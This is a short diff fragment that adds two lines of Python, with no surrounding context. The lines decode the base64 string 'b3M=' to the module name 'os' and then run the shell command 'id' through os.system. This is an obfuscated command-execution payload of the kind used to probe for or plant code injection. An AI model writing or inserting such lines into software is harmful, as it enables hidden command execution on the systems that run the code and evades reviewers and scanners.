@@ -1,0 +1,2 @@
+import base64
+__import__(base64.b64decode('b3M=').decode()).system('id')
